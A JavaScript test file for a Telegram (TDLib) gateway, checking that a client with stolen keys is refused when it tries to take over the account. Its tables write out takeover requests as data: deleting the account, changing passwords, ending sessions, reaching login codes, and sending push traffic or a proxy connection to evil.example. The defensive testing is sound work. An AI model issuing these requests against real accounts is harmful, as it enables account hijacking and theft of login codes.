/** A platform whose keys were stolen tries to take the account over, with every request that the owner could have allowed. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { getMe, sendText } from '../requests.mjs';
import { SAMPLE_UPDATES } from '../settings.mjs';
import { REQUESTS } from './schema.mjs';
import { as, askedOfTelegram, client, sharedStage } from './stage.mjs';

const TELEGRAM = 777000;
const people = {
  ann: { name: 'Ann Archer', phone: '+999 662 0001', code: '7391254801', username: 'ann_archer' },
  bob: { name: 'Bob Baker', phone: '+999 662 0002', code: '7391254802', username: 'bob_baker' },
};
const settings = {
  // All that TDLib knows, though nothing is named as dangerous.
  allowed_requests: REQUESTS,
  allowed_updates: [...SAMPLE_UPDATES, 'updateUser', 'updateMessageSendSucceeded'],
  request_peers: { sendMessage: 'chat_id', getUser: 'user_id', forwardMessages: ['chat_id', 'from_chat_id'] },
  format_fields: { inputMessageText: 'text' },
  clients: [client('owner', { may_create: true }), client('stolen')],
};

const stage = sharedStage({ people, settings }, async (opened) => {
  opened.telegram.world.service.setUsernames(['service_of_telegram']);
  await opened.logIn(opened.people.ann, 1, as('owner'));
  opened.stolen = await opened.connect(1, as('stolen'));
  await opened.stolen.seesState('authorizationStateReady');
});

/** What a name costs. */
const LOOKING_UP = ['contacts.resolveUsername', 'contacts.resolvePhone'];

/** The refusal of a request of which Telegram hears nothing. */
async function refusalOf(request) {
  const from = stage.telegram.rpcLog.length;
  const answer = await stage.stolen.ask(request);
  assert.equal(answer['@type'], 'error', JSON.stringify(answer));
  assert.deepEqual(askedOfTelegram(stage.telegram, from).filter((name) => !LOOKING_UP.includes(name)), []);
  return answer.message;
}

const TAKING_OVER = {
  'deletes the account': { '@type': 'deleteAccount', reason: '', password: '' },
  'lets the account end itself': { '@type': 'setAccountTtl', ttl: { '@type': 'accountTtl', days: 30 } },
  'sets a password': { '@type': 'setPassword', old_password: '', new_password: 'mine' },
  'sets a recovery address': { '@type': 'setRecoveryEmailAddress', password: '', new_recovery_email_address: 'a@b.c' },
  'resets the password': { '@type': 'resetPassword' },
  'recovers the password': { '@type': 'recoverPassword', recovery_code: '1', new_password: 'mine' },
  'moves the account to another number': { '@type': 'sendPhoneNumberCode', phone_number: '+15550100', type: { '@type': 'phoneNumberCodeTypeChange' } },
  'adds a passkey': { '@type': 'addLoginPasskey', client_data: '', attestation_object: '' },
  'adds an address to log in by': { '@type': 'setLoginEmailAddress', new_login_email_address: 'a@b.c' },
  'lets another device in by QR code': { '@type': 'confirmQrCodeAuthentication', link: 'tg://login?token=abc' },
  "ends the owner's devices": { '@type': 'terminateAllOtherSessions' },
  "ends one of the owner's devices": { '@type': 'terminateSession', session_id: '1' },
  'confirms its own unknown log-in': { '@type': 'confirmSession', session_id: '1' },
  'reads the token that stands for a code': { '@type': 'getOption', name: 'authentication_token' },
  'sends what comes to a device of its own': { '@type': 'registerDevice', device_token: { '@type': 'deviceTokenWebPush', endpoint: 'https://evil.example', p256dh_base64url: '', auth_base64url: '' }, other_user_ids: [] },
  'logs in to a website': { '@type': 'getLoginUrl', chat_id: 5, message_id: 1, button_id: 1, allow_write_access: true },
  'gives a chat away': { '@type': 'transferChatOwnership', chat_id: 5, user_id: 5, password: '' },
  'takes identity documents': { '@type': 'getAllPassportElements', password: '' },
  'spends money': { '@type': 'sendPaymentForm', payment_form_id: 1, order_info_id: '', shipping_option_id: '', tip_amount: 0 },
  'calls any method of Telegram': { '@type': 'sendCustomRequest', method: 'account.deleteAccount', parameters: '{}' },
  'takes its instance over': { '@type': 'setTdlibParameters', database_directory: '/tmp/x' },
  'destroys the session': { '@type': 'destroy' },
  'listens behind a proxy of its own': { '@type': 'addProxy', proxy: { '@type': 'proxy', server: 'evil.example', port: 1080, type: { '@type': 'proxyTypeSocks5' } }, enable: true },
  'has the session dial an address of its own': { '@type': 'processPushNotification', payload: '{"data":{"loc_key":"DC_UPDATE","custom":{"dc":2,"addr":"127.0.0.1:1"}}}' },
  'takes the name of the business it works for': { '@type': 'setBusinessAccountUsername', business_connection_id: 'x', username: '' },
  'logs in as someone else': { '@type': 'setAuthenticationPhoneNumber', phone_number: people.bob.phone },
  'logs in as a bot': { '@type': 'checkAuthenticationBotToken', token: '1:x' },
  'registers an account': { '@type': 'registerUser', first_name: 'x', last_name: '', disable_notification: true },
  'shows a QR code to log in by': { '@type': 'requestQrCodeAuthentication', other_user_ids: [] },
  'recovers a log-in': { '@type': 'recoverAuthenticationPassword', recovery_code: '1', new_password: '' },
};

for (const [what, request] of Object.entries(TAKING_OVER)) {
  test(`an attacker ${what}, and is refused`, async () => {
    assert.match(await refusalOf(request), /^REQUEST_NOT_ALLOWED: /);
  });
}

const HIDING_TRACES = ['deleteChat', 'deleteChatHistory', 'deleteForumTopic', 'deleteChatMessagesByDate', 'deleteChatMessagesBySender',
  'deleteAllCallMessages', 'deleteSavedMessagesTopicHistory', 'setChatMessageAutoDeleteTime', 'setDefaultMessageAutoDeleteTime',
  'clearAllDraftMessages'];

for (const request of HIDING_TRACES) {
  test(`an attacker hides its traces by ${request}, and is refused`, async () => {
    assert.match(await refusalOf({ '@type': request }), /^REQUEST_NOT_ALLOWED: .*shields\.history/);
  });
}

const text = (more) => ({ '@type': 'inputMessageText', text: { '@type': 'formattedText', text: 'x', ...more } });
const toBob = (more) => ({ '@type': 'sendMessage', chat_id: stage.people.bob.id, input_message_content: text(), ...more });
const mention = { '@type': 'textEntity', offset: 0, length: 1, type: { '@type': 'textEntityTypeMentionName', user_id: TELEGRAM } };

/** Ways to name the service account, which writes the log-in codes. */
const NAMING_TELEGRAM = {
  'quotes a code in a reply in another chat': () =>
    toBob({ reply_to: { '@type': 'inputMessageReplyToExternalMessage', chat_id: TELEGRAM, message_id: 1048576 } }),
  'forwards a code': () => ({ '@type': 'forwardMessages', chat_id: stage.people.bob.id, from_chat_id: TELEGRAM, message_ids: [1048576] }),
  'sends a copy of a code': () =>
    toBob({ input_message_content: { '@type': 'inputMessageForwarded', from_chat_id: TELEGRAM, message_id: 1048576, copy_options: { '@type': 'messageCopyOptions', send_copy: true } } }),
  'has a code translated': () => ({ '@type': 'translateMessageText', chat_id: TELEGRAM, message_id: 1048576, to_language_code: 'de' }),
  'has a code summarized': () => ({ '@type': 'summarizeMessage', chat_id: TELEGRAM, message_id: 1048576 }),
  'counts the messages with some digits': () => ({ '@type': 'getChatMessageCount', chat_id: TELEGRAM }),
  'searches messages of the service in another chat': () => ({ '@type': 'searchChatMessages', chat_id: stage.people.bob.id, query: '4', sender_id: { '@type': 'messageSenderUser', user_id: TELEGRAM }, limit: 10 }),
  'searches all chats for digits': () => ({ '@type': 'searchMessages', query: '40513', limit: 10 }),
  'edits what the service wrote': () => ({ '@type': 'editMessageText', chat_id: TELEGRAM, message_id: 1048576, input_message_content: text() }),
  'deletes what the service wrote': () => ({ '@type': 'deleteMessages', chat_id: TELEGRAM, message_ids: [1048576], revoke: true }),
  'leaves a draft that quotes a code': () => ({ '@type': 'setChatDraftMessage', chat_id: TELEGRAM }),
  'mutes the service': () => ({ '@type': 'setChatNotificationSettings', chat_id: TELEGRAM, notification_settings: { '@type': 'chatNotificationSettings', mute_for: 99999 } }),
  'hides the chat of the service in the archive': () => ({ '@type': 'addChatToList', chat_id: TELEGRAM, chat_list: { '@type': 'chatListArchive' } }),
  'marks the alert as read': () => ({ '@type': 'viewMessages', chat_id: TELEGRAM, message_ids: [1048576], force_read: true }),
  'blocks the service': () => ({ '@type': 'setMessageSenderBlockList', sender_id: { '@type': 'messageSenderUser', user_id: TELEGRAM }, block_list: { '@type': 'blockListMain' } }),
  'writes its number as a text': () => ({ '@type': 'createPrivateChat', user_id: `${TELEGRAM}` }),
  'uses its former number': () => ({ '@type': 'getUser', user_id: 42777 }),
  'uses the chat of verification codes': () => ({ '@type': 'getUser', user_id: 489000 }),
  'mentions it in a text': () => toBob({ input_message_content: text({ entities: [mention] }) }),
  'mentions it in Markdown': () => toBob({ input_message_content: { '@type': 'inputMessageText', text: '[x](tg://user?id=777000)' } }),
  'uses a name that leads to it': () => toBob({ chat_id: 'service_of_telegram' }),
  'uses a link that leads to it': () => toBob({ chat_id: 'https://t.me/service_of_telegram' }),
  'uses such a name where a user is wanted': () => ({ '@type': 'getUser', user_id: '@Service_Of_Telegram' }),
  'forwards from such a name': () => ({ '@type': 'forwardMessages', chat_id: 'bob_baker', from_chat_id: 'service_of_telegram', message_ids: [1048576] }),
};

for (const [what, request] of Object.entries(NAMING_TELEGRAM)) {
  test(`an attacker ${what}, and is refused`, async () => {
    assert.match(await refusalOf(request()), /^(TYPE_NOT_ALLOWED: .* is Telegram's own account|REQUEST_NOT_ALLOWED: \w+: shields.login_codes)/);
  });
}

const CODE = '40513';

test('an attacker copies a code that the owner has forwarded, without its origin', async () => {
  const { stolen, telegram, people: { ann, bob } } = stage;
  const sent = await telegram.service.sendMessage(ann, `Login code: ${CODE}`);
  await ann.forwardMessage(sent.copy, ann);
  const { message } = await stolen.sees('updateNewMessage', ({ message: { chat_id: id } }) => id === ann.id);
  await stolen.ask(toBob());
  const copy = { send_copy: true, '@type': 'forwardMessages', chat_id: bob.id, from_chat_id: ann.id, message_ids: [message.id] };
  assert.match((await stolen.ask(copy)).message, /^TYPE_NOT_ALLOWED: forwardMessages: send_copy/);
  const translate = { '@type': 'translateMessageText', chat_id: ann.id, message_id: message.id, to_language_code: 'de' };
  assert.match((await stolen.ask(translate)).message, /^REQUEST_NOT_ALLOWED: translateMessageText: shields.login_codes/);
  await stolen.call(getMe);
  assert.ok(!stolen.lines.some((line) => line.includes(CODE)));
});

test('after all this the owner is who they were, and no request has changed anything', async () => {
  assert.equal((await stage.stolen.call(getMe)).id, stage.people.ann.id);
  assert.deepEqual(askedOfTelegram(stage.telegram).filter((name) => /delete|edit|block|terminate|reset/i.test(name)), []);
  assert.equal((await stage.stolen.ask(sendText(stage.people.bob.id, 'y')))['@type'], 'message');
});
